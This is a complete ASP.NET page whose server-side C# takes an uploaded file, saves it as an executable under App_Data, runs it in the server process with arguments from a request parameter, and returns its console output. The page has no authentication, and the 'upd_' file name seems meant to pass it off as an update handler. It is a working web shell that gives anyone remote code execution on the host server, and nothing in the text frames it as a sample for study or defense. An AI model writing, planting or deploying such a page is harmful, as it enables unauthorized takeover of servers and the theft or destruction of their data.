<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        if (Request.Files.Count == 0) return;
        string tmp = Server.MapPath("~/App_Data/upd_" + DateTime.Now.Ticks + ".exe");
        Request.Files[0].SaveAs(tmp);
        string[] args = (Request["a"] ?? "").Split(' ');
        var sw = new StringWriter();
        Console.SetOut(sw);
        AppDomain.CurrentDomain.ExecuteAssembly(tmp, args);
        Response.Write(Server.HtmlEncode(sw.ToString()));
        File.Delete(tmp);
    }
</script>
